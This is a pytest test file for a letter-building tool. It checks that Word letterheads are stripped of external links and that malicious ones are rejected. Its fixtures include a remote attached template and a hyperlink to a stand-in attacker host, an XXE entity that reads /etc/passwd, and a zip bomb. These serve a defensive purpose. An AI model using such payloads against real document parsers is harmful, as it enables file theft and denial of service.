"""Letterheads are cleaned: external relationships (a remote attached template, a linked image,
a hyperlink) are taken out with a warning naming each, so `--strict` fails; a letterhead made to
exhaust or fool the reader (XXE, a zip bomb) is refused like an audit input."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from click.testing import CliRunner
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from helpers import MINIMAL, make_workspace

from appealkit.cli import cli
from appealkit.read.letterhead import clean_letterhead

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = "http://attacker.invalid/letterhead.dotm"
LINK = "http://attacker.invalid/track"
WITH_LETTERHEAD = MINIMAL["campaigns/test.yaml"].replace(
    "        letters:", "        letterhead: letterhead.docx\n        letters:")


def hostile_letterhead() -> bytes:
    """A letterhead whose header links out and whose settings attach a remote template."""
    document = docx.Document()
    header = document.sections[0].header
    header.paragraphs[0].text = "ASİMKOM"
    link = header._get_or_add_definition().relate_to(LINK, RT.HYPERLINK, is_external=True)
    header.paragraphs[0]._p.append(parse_xml(
        f'<w:hyperlink xmlns:w="{W}" xmlns:r="{R}" r:id="{link}"><w:r><w:t>site</w:t></w:r></w:hyperlink>'))
    settings = document.part._settings_part
    template = settings.relate_to(TEMPLATE, f"{R}/attachedTemplate", is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate xmlns:w="{W}" xmlns:r="{R}" r:id="{template}"/>'))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def package(parts: dict[str, bytes | int]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            if isinstance(content, int):
                with archive.open(name, "w") as member:
                    for _ in range(content >> 20):
                        member.write(b" " * (1 << 20))
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


def invoke(root, *args):
    result = CliRunner().invoke(cli, ["--root", str(root), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


WARNINGS = [
    f"warning: templates/letterhead.docx: removed the external hyperlink {LINK} from the letterhead "
    "(a letter must not load anything from elsewhere; delete the link in Word)",
    f"warning: templates/letterhead.docx: removed the external attached template {TEMPLATE} from the "
    "letterhead (a letter must not load anything from elsewhere; delete the link in Word)",
]
STRICT = "--strict: error: 2 warning(s) treated as errors (fix the warnings above or leave out --strict)"


def test_external_links_are_taken_out_of_every_letter(tmp_path):
    root = make_workspace(tmp_path / "ws", {"templates/letterhead.docx": hostile_letterhead(),
                                            "campaigns/test.yaml": WITH_LETTERHEAD})
    result = invoke(root, "build", "campaigns/test.yaml", "--format", "docx")
    assert result.exit_code == 0, result.output
    assert sorted(result.stderr.splitlines()) == sorted(WARNINGS)
    with zipfile.ZipFile(root / "build" / "test" / "appeal--minister.docx") as letter:
        text = b"".join(letter.read(name) for name in letter.namelist())
    assert b"attacker.invalid" not in text and b"TargetMode" not in text
    assert b"attachedTemplate" not in text
    assert "ASİMKOM" in docx.Document(root / "build" / "test" / "appeal--minister.docx").sections[0].header \
        .paragraphs[0].text


@pytest.mark.parametrize("command", [["build", "campaigns/test.yaml", "--format", "docx"], ["check"]])
def test_strict_fails_on_a_letterhead_that_links_out(tmp_path, command):
    root = make_workspace(tmp_path / "ws", {"templates/letterhead.docx": hostile_letterhead(),
                                            "campaigns/test.yaml": WITH_LETTERHEAD})
    result = invoke(root, "--strict", *command)
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert sorted(line for line in lines if line.startswith("warning:")) == sorted(WARNINGS)
    assert STRICT in lines


@pytest.mark.parametrize(("content", "why"), [
    (lambda: package({"[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
                      b'"file:///etc/passwd">]><Types>&e;</Types>'}),
     "[Content_Types].xml declares a DTD (entities), which a document never needs"),
    (lambda: package({"word/media/image1.png": 17 << 20}),
     "'word/media/image1.png' inflates to more than 16 MB"),
    (lambda: b"not a zip", "it is not a zip package; save it again from a word processor"),
])
def test_a_hostile_letterhead_is_refused_with_one_line(tmp_path, content, why):
    root = make_workspace(tmp_path / "ws", {"templates/letterhead.docx": content(),
                                            "campaigns/test.yaml": WITH_LETTERHEAD})
    result = invoke(root, "build", "campaigns/test.yaml", "--format", "docx")
    assert result.exit_code == 1
    assert result.stderr == f"templates/letterhead.docx: error: cannot read the letterhead ({why})\n"


def test_a_clean_letterhead_is_passed_through_unchanged():
    document = docx.Document()
    buffer = io.BytesIO()
    document.save(buffer)
    cleaned = clean_letterhead(buffer.getvalue())
    assert (cleaned.data, cleaned.removed) == (buffer.getvalue(), ())


def test_serve_writes_the_letterhead_cleaned_as_build_does(tmp_path):
    """The preview's DOCX is the build's: the links are taken out, each a warning on the page."""
    from appealkit.serve.preview import Preview

    root = make_workspace(tmp_path / "ws", {"templates/letterhead.docx": hostile_letterhead(),
                                            "campaigns/test.yaml": WITH_LETTERHEAD})
    preview = Preview(root)
    snapshot = preview.refresh()
    assert sorted(str(p) for p in snapshot.problems) == sorted(w.removeprefix("warning: ").replace(
        "letterhead.docx: ", "letterhead.docx: warning: ", 1) for w in WARNINGS)
    campaign, view = snapshot.letter("test", "appeal--minister")
    letter = preview.document(campaign, view, "docx")
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        text = b"".join(archive.read(name) for name in archive.namelist())
    assert b"attacker.invalid" not in text and b"attachedTemplate" not in text
    assert "ASİMKOM" in docx.Document(io.BytesIO(letter)).sections[0].header.paragraphs[0].text


def test_serve_shows_an_unreadable_letterhead_as_a_problem(tmp_path):
    from appealkit.serve.preview import Preview

    root = make_workspace(tmp_path / "ws", {"templates/letterhead.docx": b"not a zip",
                                            "campaigns/test.yaml": WITH_LETTERHEAD})
    snapshot = Preview(root).refresh()
    assert [str(p) for p in snapshot.problems] == [
        "templates/letterhead.docx: error: cannot read the letterhead "
        "(it is not a zip package; save it again from a word processor)"]
